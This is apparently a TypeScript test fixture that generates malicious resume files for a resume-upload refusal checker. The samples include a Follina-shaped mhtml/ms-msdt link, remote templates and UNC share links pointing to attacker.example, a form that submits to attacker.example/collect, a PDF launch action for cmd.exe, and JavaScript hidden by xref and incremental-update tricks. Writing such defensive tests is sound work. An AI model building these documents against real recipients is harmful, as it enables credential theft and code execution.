// The hostile-document corpus: resumes built to hurt the employer who opens them, each the way a
// real attack builds it, and the honest documents beside them that must still pass. Generated
// here rather than stored, so every sample says what it is.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { RefusalReason } from '../../shared/services/resume-refusal';
import { contentTypesXml, makeDoc, makeDocx, samplePdf } from './documents';
import type { ZipEntrySpec } from './zip';

const WORD_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const relationships = (...items: string[]) =>
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items.join('')}</Relationships>`;
const relationship = (id: string, type: string, target: string, mode?: string) =>
  `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ''}/>`;

/** A DOCX whose document part has these relationships (and these extra parts). */
const docxWithDocumentRels = (rels: string[], extra: ZipEntrySpec[] = []) =>
  makeDocx({ extra: [{ name: 'word/_rels/document.xml.rels', data: relationships(...rels), deflate: true }, ...extra] });

const docxWithContentTypes = (declarations: string, extra: ZipEntrySpec[] = []) =>
  makeDocx({ replace: { '[Content_Types].xml': { data: contentTypesXml(WORD_MAIN, declarations) } }, extra });

/** An OLE2 compound file, as Word stores an embedded object or a package. */
const oleObject = () => makeDoc();

export type HostileSample = [name: string, data: Buffer, reason: RefusalReason];

export function hostileDocx(): HostileSample[] {
  return [
    [
      'a remote template fetched on opening (attachedTemplate, TargetMode External)',
      makeDocx({
        extra: [
          { name: 'word/settings.xml', data: '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:attachedTemplate r:id="rId1"/></w:settings>', deflate: true },
          { name: 'word/_rels/settings.xml.rels', data: relationships(relationship('rId1', 'attachedTemplate', 'http://attacker.example/t.dotm', 'External')), deflate: true },
        ],
      }),
      'embedded-object',
    ],
    [
      'an external OLE link to an mhtml page (the shape of CVE-2022-30190)',
      docxWithDocumentRels([relationship('rId9', 'oleObject', 'mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x.html', 'External')]),
      'embedded-object',
    ],
    ['an external picture (fetched on opening: a web bug, or NTLM to a share)', docxWithDocumentRels([relationship('rId5', 'image', '\\\\attacker.example\\share\\p.png', 'External')]), 'docx-external-relationship'],
    ['a hyperlink to a network share', docxWithDocumentRels([relationship('rId5', 'hyperlink', '\\\\attacker.example\\share\\cv.exe', 'External')]), 'docx-external-relationship'],
    ['a hyperlink to a local file', docxWithDocumentRels([relationship('rId5', 'hyperlink', 'file:///C:/Windows/System32/calc.exe', 'External')]), 'docx-external-relationship'],
    ['a hyperlink to the ms-msdt: protocol', docxWithDocumentRels([relationship('rId5', 'hyperlink', 'ms-msdt:/id PCWDiagnostic', 'External')]), 'docx-external-relationship'],
    ['TargetMode written with a character reference (&#69;xternal)', docxWithDocumentRels([relationship('rId5', 'image', 'http://attacker.example/p.png', '&#69;xternal')]), 'docx-external-relationship'],
    ['an "internal" target with a scheme', docxWithDocumentRels([relationship('rId5', 'image', 'mhtml:http://attacker.example/x.html')]), 'docx-external-relationship'],
    ['a relationships part declaring a DTD', docxWithDocumentRels(['<!DOCTYPE r [<!ENTITY m "External">]>']), 'docx-unsafe-part'],
    ['an embedded OLE package (word/embeddings/)', makeDocx({ extra: [{ name: 'word/embeddings/oleObject1.bin', data: oleObject() }] }), 'embedded-object'],
    ['an OLE object stored under a picture’s name', makeDocx({ extra: [{ name: 'word/media/image1.png', data: oleObject() }] }), 'embedded-object'],
    ['an embedded object named by its relationship only', docxWithDocumentRels([relationship('rId7', 'package', '../media/cv.xlsx')]), 'embedded-object'],
    [
      'ActiveX controls (word/activeX/)',
      makeDocx({ extra: [{ name: 'word/activeX/activeX1.xml', data: '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>' }, { name: 'word/activeX/activeX1.bin', data: 'x' }] }),
      'embedded-object',
    ],
    ['an ActiveX part declared under another name', docxWithContentTypes('<Override PartName="/word/media/x.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'), 'embedded-object'],
    ['an alternative-format chunk (altChunk: HTML or MHT Word imports)', docxWithDocumentRels([relationship('rId8', 'aFChunk', 'afchunk.mht')]), 'embedded-object'],
    ['an executable declared as a part type', docxWithContentTypes('<Default Extension="exe" ContentType="application/x-msdownload"/>'), 'embedded-object'],
    ['an unknown binary part type', docxWithContentTypes('<Default Extension="bin" ContentType="application/x-anything"/>'), 'docx-unsafe-part'],
    ['macros kept as vbaData.xml', makeDocx({ extra: [{ name: 'word/vbaData.xml', data: '<wne:vbaSuppData/>' }] }), 'macros'],
    ['a VBA project declared under another name', docxWithContentTypes('<Override PartName="/word/media/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>'), 'macros'],
  ];
}

export function hostileDoc(): HostileSample[] {
  return [
    ['an embedded OLE object (ObjectPool)', makeDoc({ extraStreams: ['ObjectPool/_1234/\u0001Ole10Native'] }), 'embedded-object'],
    ['a native OLE package stream outside ObjectPool', makeDoc({ extraStreams: ['Data/\u0001Ole10Native'] }), 'embedded-object'],
  ];
}

const linkAnnotation = (action: string) => `/Annots [<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A ${action} >>] `;

export function hostilePdf(): HostileSample[] {
  return [
    ['a link to a network share (/GoToR)', samplePdf({ pageExtra: linkAnnotation('<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>') }), 'pdf-active-content'],
    ['a /URI action to a local file', samplePdf({ pageExtra: linkAnnotation('<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>') }), 'pdf-active-content'],
    ['a /URI action to a share', samplePdf({ pageExtra: linkAnnotation('<< /S /URI /URI (\\\\\\\\attacker.example\\\\share) >>') }), 'pdf-active-content'],
    ['a form that submits itself (/SubmitForm)', samplePdf({ pageExtra: linkAnnotation('<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >>') }), 'pdf-active-content'],
    ['a page that opens a web page by itself (/AA)', samplePdf({ pageExtra: '/AA << /O << /S /URI /URI (https://attacker.example/) >> >> ' }), 'pdf-active-content'],
    ['an /OpenAction that opens a web page', samplePdf({ catalogExtra: '/OpenAction << /S /URI /URI (https://attacker.example/) >> ' }), 'pdf-active-content'],
    ['a launch action on a link', samplePdf({ pageExtra: linkAnnotation('<< /S /Launch /F (cmd.exe) >>') }), 'pdf-active-content'],
    ['JavaScript an in-order reader never sees: the table points into a stream', hiddenCatalogPdf(), 'pdf-active-content'],
    ['JavaScript added by an incremental update', incrementalUpdatePdf(), 'pdf-active-content'],
    ['JavaScript inside a compressed object stream', objectStreamPdf(), 'pdf-active-content'],
    ['a file qpdf must repair to read (offsets that lie)', Buffer.from(samplePdf().toString('latin1').replace('/Count 1', '/Count 1     '), 'latin1'), 'pdf-damaged'],
  ];
}

/** Documents with links the reader clicks, and a destination opened with the file: all must pass. */
export function honestDocuments(): [string, Buffer, 'pdf' | 'docx'][] {
  return [
    ['a DOCX with web and mail hyperlinks', docxWithDocumentRels([relationship('rId5', 'hyperlink', 'https://www.linkedin.com/in/asha', 'External'), relationship('rId6', 'hyperlink', 'mailto:asha@example.com', 'External')]), 'docx'],
    ['a PDF with a web link', samplePdf({ pageExtra: linkAnnotation('<< /S /URI /URI (https://www.linkedin.com/in/asha) >>') }), 'pdf'],
    ['a PDF that opens at its first page (a destination)', samplePdf({ catalogExtra: '/OpenAction [3 0 R /Fit] ' }), 'pdf'],
  ];
}

const JS_CATALOG = '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>';

/** The clean catalog sits where a reader going in order finds it; the table names a copy inside a stream. */
function hiddenCatalogPdf(): Buffer {
  const clean = samplePdf().toString('latin1');
  const hidden = `1 0 obj\n${JS_CATALOG}\nendobj\n`;
  const start = clean.indexOf('xref\n');
  const streamObject = `6 0 obj\n<< /Length ${hidden.length} >>\nstream\n`;
  const hiddenAt = start + streamObject.length;
  let body = clean.slice(0, start) + streamObject + hidden + '\nendstream\nendobj\n';
  const xref = body.length;
  const offsets = [...clean.matchAll(/^(\d+) 0 obj$/gm)].map((m) => m.index!);
  offsets[0] = hiddenAt;
  offsets.push(start);
  body += `xref\n0 ${offsets.length + 1}\n0000000000 65535 f \n` + offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
  body += `trailer\n<< /Size ${offsets.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

/** A clean file with an update appended that replaces the catalog, as an editor saves a change. */
function incrementalUpdatePdf(): Buffer {
  const clean = samplePdf().toString('latin1');
  const previous = /startxref\n(\d+)/.exec(clean)![1];
  const at = clean.length;
  let update = `1 0 obj\n${JS_CATALOG}\nendobj\n`;
  const xref = at + update.length;
  update += `xref\n0 1\n0000000000 65535 f \n1 1\n${String(at).padStart(10, '0')} 00000 n \n`;
  update += `trailer\n<< /Size 6 /Root 1 0 R /Prev ${previous} >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(clean + update, 'latin1');
}

/** The script's object compressed into an object stream (and the table into a stream), by qpdf itself. */
function objectStreamPdf(): Buffer {
  const dir = mkdtempSync(join(tmpdir(), 'hostile-pdf-'));
  try {
    writeFileSync(join(dir, 'in.pdf'), samplePdf({ catalogExtra: '/OpenAction 6 0 R ', extraObjects: ['<< /S /JavaScript /JS (app.alert(1)) >>'] }));
    execFileSync('qpdf', ['--object-streams=generate', '--compress-streams=y', join(dir, 'in.pdf'), join(dir, 'out.pdf')]);
    return readFileSync(join(dir, 'out.pdf'));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}
